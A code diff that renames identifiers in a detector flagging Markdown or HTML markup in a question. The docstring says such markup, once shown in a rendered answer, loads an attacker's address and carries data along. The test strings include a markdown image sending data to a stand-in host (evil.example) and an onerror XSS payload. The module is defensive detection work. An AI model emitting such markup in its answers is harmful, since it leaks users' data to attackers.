@@ -5,7 +5,7 @@ from __future__ import annotations
 from collections.abc import Iterator
 
 from grammar.diagnostic import quote
-from guard.scope.detector import Glance, Sight, Sign, Weight, any_of, detector
+from guard.scope.detector import Signal, Stage, View, Weight, any_of, detector
 
 _ACTIVE = any_of(
     r"!\[[^\]]{0,200}\]\(",
@@ -21,7 +21,7 @@ _LINK = any_of(
 
 @detector(
     Weight.DECISIVE,
-    sight=Sight.TEXT,
+    stage=Stage.TEXT,
     out_of_scope=[
         "errors ![x](https://evil.example/?d=1)",
         "<img src=x onerror=alert(1)>",
@@ -34,16 +34,16 @@ _LINK = any_of(
         "duration < 5 and count > 3",
     ],
 )
-def markup(glance: Glance) -> Iterator[Sign]:
-    """The question holds a picture, script or frame in Markdown or HTML.
+def markup(view: View) -> Iterator[Signal]:
+    """The question contains an image, script or frame in Markdown or HTML.
 
-    In an answer that is shown on a page, such a thing loads an address of the attacker's choice and takes data along.
-    A plain link is only noted, and what stands in quotes as a filter's value is let through.
+    In an answer that is shown on a page, it loads an address of the attacker's choice and can carry data along.
+    A plain link is only flagged, and a quoted filter value is let through.
     """
-    match = _ACTIVE.search(glance.lower)
+    match = _ACTIVE.search(view.lower)
     if match is not None:
-        yield Sign(f"the question holds markup: {quote(match.group())}", match.span())
+        yield Signal(f"the question contains markup: {quote(match.group())}", match.span())
         return
-    match = _ACTIVE.search(glance.text.lower()) or _LINK.search(glance.lower)
+    match = _ACTIVE.search(view.text.lower()) or _LINK.search(view.lower)
     if match is not None:
-        yield Sign(f"the question holds markup: {quote(match.group())}", match.span(), Weight.NOTED)
+        yield Signal(f"the question contains markup: {quote(match.group())}", match.span(), Weight.NOTED)
